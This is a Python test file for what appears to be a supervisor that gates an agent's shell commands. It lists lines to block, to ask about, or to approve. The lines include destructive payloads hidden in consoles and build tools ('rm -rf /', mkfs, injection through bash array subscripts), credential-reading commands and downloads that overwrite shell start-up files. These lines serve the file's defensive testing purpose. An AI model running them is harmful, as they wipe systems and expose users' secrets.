"""Code-running programs the third round did not read (docs/security.md#code-carriers).

Consoles and script hosts that run a shell command from their options or input
(``less '+!CMD'``, ``sqlite3 '.shell CMD'``, ``psql -c '\\! CMD'``, ``lldb -o
'platform shell CMD'``, ``emacs --eval``, ``osascript``, ``julia``, ``pwsh``,
``tclsh``), xargs handing what it reads to a shell, perl's piped ``open``, git
subcommands that run a program (``instaweb --httpd``, ``send-email
--sendmail-cmd``), secret key exports and downloads written over a shell's
start-up files by a long option. Each line runs in a strict profile that
allowlists the program and in a manual profile with no rules; each failed on the
code before.
"""

from __future__ import annotations

import pytest

from multiplex import Supervisor
from tests.shell._carriers import (
    APPROVED,
    ASK,
    assert_hardline,
    assert_in_both,
    homes_fixture,
    outcome,
)

ALLOW = [
    "less *", "more *", "emacs *", "lldb *", "sqlite3 *", "psql *", "mysql *", "R *",
    "Rscript *", "julia *", "osascript *", "pwsh *", "powershell *", "tclsh *", "scp *",
    "xargs *", "echo *", "find *", "perl *", "git *", "gpg *", "wget *", "curl *", "parallel *",
    "ls *", "cat *", "perf *", "ip *", "docker *", "podman *", "kubectl *", "npx *", "pnpm *",
    "nodemon *", "ansible *", "go *", "cargo *", "apt-get *", "mvn *", "dotnet *", "latexmk *",
    "pdflatex *", "npm *",
]  # fmt: skip
MKFS = "mkfs.ext4 -q -F ./img.bin 1M"

HARDLINE = [
    f"less '+!{MKFS}' f",
    "less '+!rm -rf /' f",
    "less -R '+!rm -rf /' f",
    "less '++!rm -rf /' f",
    "less '+|arm -rf /' f",
    "more '+!rm -rf /' f",
    "emacs --batch --eval '(shell-command \"rm -rf /\")'",
    'emacs -batch --eval=\'(call-process "rm" nil nil nil "-rf" "/")\'',
    'emacs --batch --eval \'(start-process "x" "b" "rm" "-rf" "/")\'',
    "emacs --batch --eval '(async-shell-command \"rm -rf ~\")'",
    "lldb -o 'platform shell rm -rf /'",
    "lldb --one-line 'platform shell rm -rf /'",
    "lldb -o 'plat sh rm -rf /'",
    "lldb -o 'shell rm -rf /'",
    "sqlite3 x.db '.shell rm -rf /'",
    "sqlite3 x.db '.system rm -rf /'",
    "sqlite3 x.db '.sh rm -rf /'",
    "sqlite3 x.db \".once '|rm -rf /'\"",
    "sqlite3 -cmd '.shell rm -rf /' x.db",
    "sqlite3 x.db <<< '.shell rm -rf /'",
    "psql -c '\\! rm -rf /'",
    "psql -c '\\!rm -rf /'",
    "psql -c 'select 1' -c '\\o |rm -rf /'",
    "psql -c \"COPY t FROM PROGRAM 'rm -rf /'\"",
    "psql <<< '\\! rm -rf /'",
    "mysql -e 'system rm -rf /'",
    "mysql -e '\\! rm -rf /'",
    "mysql --pager='rm -rf /'",
    "R -e 'system(\"rm -rf /\")'",
    "julia -e 'run(`rm -rf /`)'",
    "osascript -e 'do shell script \"rm -rf /\"'",
    "pwsh -c 'rm -rf /'",
    "pwsh -Command '/bin/rm -rf /'",
    "tclsh <<< 'exec rm -rf /'",
    "tclsh <<< 'open \"|rm -rf /\"'",
    "scp -o ProxyCommand='rm -rf /' a b:c",
    "perl -e 'open(F,\"|rm -rf /\")'",
    'perl -e \'open(my $f, "-|", "rm -rf /")\'',
    "perl -MPOSIX -e 'exec \"rm -rf /\"'",
    "echo 'rm -rf /' | parallel sh -c",
    "git instaweb --httpd='rm -rf /'",
    "git instaweb -d 'rm -rf /'",
    "git instaweb --browser='rm -rf /'",
    "git send-email --sendmail-cmd='rm -rf /' x.patch",
    "git -c instaweb.httpd='rm -rf /' instaweb",
    "git config sendemail.sendmailcmd 'rm -rf /'",
    # launchers and build tools' command options
    "perf record rm -rf /",
    "perf stat -e cycles rm -rf /",
    "ip netns exec ns1 rm -rf /",
    "docker exec web rm -rf /",
    "docker exec -u root web sh -c 'rm -rf /'",
    "podman exec -it web rm -rf /",
    "kubectl exec pod -- rm -rf /",
    "kubectl exec -it pod -c app -- sh -c 'rm -rf /'",
    "kubectl run x --image=alpine -- rm -rf /",
    "npx rm -rf /",
    "pnpm exec rm -rf /",
    "nodemon --exec 'rm -rf /'",
    "ansible all -m shell -a 'rm -rf /'",
    "ansible localhost -m ansible.builtin.command -a 'rm -rf /'",
    "go test -exec 'rm -rf /' ./...",
    "go build -toolexec 'rm -rf /' ./...",
    "go test -toolexec='rm -rf /' ./...",
    "cargo build --config target.x86_64-unknown-linux-gnu.runner='rm -rf /'",
    "apt-get -o APT::Update::Pre-Invoke::='rm -rf /' update",
    "mvn exec:exec -Dexec.executable=rm -Dexec.args='-rf /'",
    "dotnet msbuild -p:PreBuildEvent='rm -rf /'",
    "latexmk -pdflatex='rm -rf /' x.tex",
    "npm config set script-shell 'rm -rf /'",
    "npm pkg set scripts.test='rm -rf /'",
    "npm set-script test 'rm -rf /'",
    # every language's recursive delete of / or ~
    "node -e \"require('fs').rmSync('/', {recursive: true})\"",
    "node -e \"require('fs').rmdirSync('~', {recursive: true})\"",
    "node -e \"fs.rm('/', {recursive: true}, () => {})\"",
    "deno eval 'await Deno.remove(\"/\", {recursive: true})'",
    # a value holding code, evaluated where bash evaluates it (each ran its $(…) in bash)
    "x='a[$(rm -rf /)]'; test -v \"$x\"",
    "x='a[$(rm -rf /)]'; [ -v \"$x\" ]",
    "x='a[$(rm -rf /)]'; echo ${#x[x]}",
    "x='a[$(rm -rf /)]'; read \"$x\" <<< 1",
    "x='a[$(rm -rf /)]'; set -- a b; echo ${@:x}",
    "x='a[$(rm -rf /)]'; echo ${*:x}",
    "x='a[$(rm -rf /)]'; declare -i y; y=x",
    "x='a[$(rm -rf /)]'; declare \"$x\"=1",
    "x='a[`rm -rf /`]'; echo ${#x[x]}",
]
# Run code whose text the line does not show or cannot vouch for: never approved.
CODE = [
    "less '+!touch x' f",
    "emacs --batch --eval '(message \"hi\")'",
    "lldb -o 'script import os'",
    "sqlite3 x.db '.shell touch x'",
    "psql -c '\\! touch x'",
    "mysql -e 'system touch x'",
    "julia -e 'run(`touch x`)'",
    "osascript -e 'do shell script \"touch x\"'",
    "pwsh -c 'Get-ChildItem'",
    "pwsh -EncodedCommand ZQBjAGgAbwA=",
    "tclsh <<< 'exec touch x'",
    "xargs -I{} sh -c '{}'",
    "xargs -I % bash -c '%'",
    "xargs -i sh -c 'echo {}'",
    "xargs sh -c",
    "xargs -0 bash -c",
    "xargs -I{} python3 -c '{}'",
    "pdflatex -shell-escape x.tex",
    "latexmk -e '$x=1' x.tex",
    "npm config set script-shell /bin/zsh",
    "go test -exec ./run-in-vm ./...",
    "go env -w GOFLAGS=-toolexec=./wrap",
    "perl -MPOSIX -e 'exec \"touch x\"'",
    "perl -e 'open(F, \"touch x|\")'",
    "git -c sendemail.smtpserver=/tmp/evil send-email x",
]
# Not approved by an allow rule (a program, file or secret the rule cannot vouch for).
NEVER_ALLOWLISTED = [
    "scp -S /tmp/evil a b:c",
    "sftp -S /tmp/evil host",
    "emacs --batch -l evil.el",
    "lldb -s cmds.lldb ./a.out",
    "sqlite3 -init evil.sql x.db",
    "sqlite3 x.db '.load ./evil'",
    "psql -f evil.sql",
    "git send-email --smtp-server=/tmp/evil x.patch",
    "git send-email --sendmail-cmd='touch x' x.patch",
    "git send-email --smtp-server=smtp.example.com x.patch",
]
# Reads a secret or writes where code runs later: ask in every mode.
ASK_EVERYWHERE = [
    "gpg --export-secret-keys",
    "gpg --export-secret-keys -a -o k.asc",
    "gpg --armor --export-secret-subkeys",
    "gpg --export-secret-k x",
    "gpgsm --export-secret-key-p12 x",
    "wget --output-document=~/.profile http://x.example",
    "wget -O~/.bashrc http://x.example",
    "wget --output-doc ~/.bashrc http://x.example",
    "wget -e output_document=~/.bashrc http://x.example",
    "curl --output=~/.zshrc http://x.example",
    "curl -o~/.bashrc http://x.example",
    # more tools' credential stores, browsers' logins, histories, other processes' environment
    "cat ~/.config/git/credentials",
    "cat ~/.m2/settings.xml",
    "cat ~/.gradle/gradle.properties",
    "cat ~/.yarnrc.yml",
    "cat ~/.s3cfg",
    "cat ~/.boto",
    "cat ~/.config/rclone/rclone.conf",
    "cat ~/.my.cnf",
    "cat ~/.local/share/keyrings/login.keyring",
    "cat ~/.mozilla/firefox/x.default/logins.json",
    "cat ~/.config/google-chrome/Default/Login\\ Data",
    "cat ~/.bash_history",
    "cat /proc/1/environ",
    "grep -r token ~/.config/gh",
    # a glob that reaches a secret
    "cat ~/.a?s/credentials",
    "cat ~/.ss[h]/id_rsa",
    "cat ~/.kube/conf?g",
    # commands that print a credential
    "gh auth token",
    "gh auth status -t",
    "gcloud auth print-access-token",
    "gcloud auth application-default print-access-token",
    "az account get-access-token",
    "aws configure get aws_secret_access_key",
    "aws ecr get-login-password",
    "kubectl config view --raw",
    "kubectl get secret db -o yaml",
    "vault kv get secret/db",
    "op read op://vault/item/password",
    "security find-generic-password -w -s x",
    "secret-tool lookup service x",
    "pass show email",
    "git credential fill <<< 'host=github.com'",
    "docker-credential-desktop get <<< https://index.docker.io/v1/",
    "export F=~/.aws/credentials; cat $F",
]
ORDINARY = [
    "less +G f",
    "less +/error f",
    "less '+/a|b' f",
    "more +10 f",
    "emacs notes.txt",
    "lldb ./a.out",
    "sqlite3 x.db 'select 1'",
    "wget http://x.example/a.tgz",
    "julia -e 'println(1)'",
    "scp a b:c",
    "xargs -I{} ls {}",
    "find . -name '*.txt' | xargs -I{} cat {}",
    "xargs -n1 echo",
    "gpg --export x",
    "gpg --list-keys",
    "perl -ne 'print if /x/' f",
    "go build ./...",
    "go test -run TestX ./pkg",
    "cargo build --release",
    "mvn -DskipTests package",
    "dotnet build -p:Configuration=Release",
    "latexmk -pdf x.tex",
    "pdflatex x.tex",
    "npm config set registry https://r.example",
    "npm pkg set name=x",
    "docker exec web ls",
    "kubectl exec pod -- ls",
    "perf stat ls",
    "cat ~/.ssh/known_hosts",
    "ls ~/.config/g?",
]
# Ordinary uses of the credential tools (not in the strict allowlist: judged in manual).
MANUAL_ORDINARY = [
    "gh pr list",
    "gh auth login",
    "gcloud config list",
    "aws s3 ls",
    "aws configure list",
    "kubectl get pods",
    "kubectl config view",
    "vault status",
    "security list-keychains",
    "KUBECONFIG=~/.kube/config kubectl get pods",
    "export PATH=$PATH:~/bin",
]


sup = homes_fixture("round4", ALLOW)


@pytest.mark.parametrize("line", HARDLINE)
def test_a_hardline_payload_is_blocked_as_hardline(sup: Supervisor, line: str) -> None:
    assert_hardline(sup, line)


@pytest.mark.parametrize("line", CODE)
def test_code_running_forms_ask(sup: Supervisor, line: str) -> None:
    assert_in_both(sup, line, ASK)


@pytest.mark.parametrize("line", NEVER_ALLOWLISTED)
def test_an_allow_rule_never_approves_these(sup: Supervisor, line: str) -> None:
    assert outcome(sup, "strict", line) == ASK


@pytest.mark.parametrize("line", ASK_EVERYWHERE)
def test_secret_exports_and_start_up_file_downloads_ask_in_every_mode(
    sup: Supervisor, line: str
) -> None:
    assert_in_both(sup, line, ASK)


@pytest.mark.parametrize("line", ORDINARY)
def test_ordinary_uses_stay_allowlisted(sup: Supervisor, line: str) -> None:
    assert_in_both(sup, line, APPROVED)


@pytest.mark.parametrize("line", MANUAL_ORDINARY)
def test_ordinary_uses_of_credential_tools_are_not_secret_reads(sup: Supervisor, line: str) -> None:
    assert outcome(sup, "manual", line) == APPROVED
